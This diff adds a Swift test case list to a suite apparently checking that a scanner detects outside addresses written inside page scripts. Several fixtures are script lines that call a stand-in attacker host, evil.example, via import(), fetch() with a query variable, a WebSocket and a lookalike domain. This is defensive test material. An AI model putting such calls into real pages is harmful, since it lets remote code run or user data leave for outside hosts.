@@ -45,6 +45,22 @@ struct OutsideRequestTests {
   }
 
   @Test(arguments: [
+    Case("import(\"https://evil.example/x.js\")", "script https://evil.example"),
+    Case("fetch('//evil.example/')", "script //evil.example"),
+    Case("fetch(`//evil.example?${q}`)", "script //evil.example"),
+    Case(#"a="HTTPS:\/\/evil\.example""#, "script HTTPS://evil.example"),
+    Case("new WebSocket(\"wss://evil.example:1\")", "script wss://evil.example:1"),
+    Case("\"https://example.com.evil.example\"", "script https://example.com.evil.example"),
+    Case("\"https://school.example/mentors/a\""), Case("\"https://example.com${path}\""),
+    Case(#"a.replace(/^https:\/\/example\.com/, "")"#), Case("a // b.example"),
+    Case("a ? b ://c"), Case("\"//\""), Case("\"/a//b\""), Case("//"), Case(""),
+  ])
+  func `the addresses that a script spells out are found`(_ example: Case) {
+    #expect(
+      Self.words(Self.section.inScript(Array(example.markup.utf8))) == example.found)
+  }
+
+  @Test(arguments: [
     "<a href=\"https://other.example/\">link</a>",
     "<link rel=\"canonical\" href=\"https://other.example/\">",
     "<link href=\"https://other.example/\">",
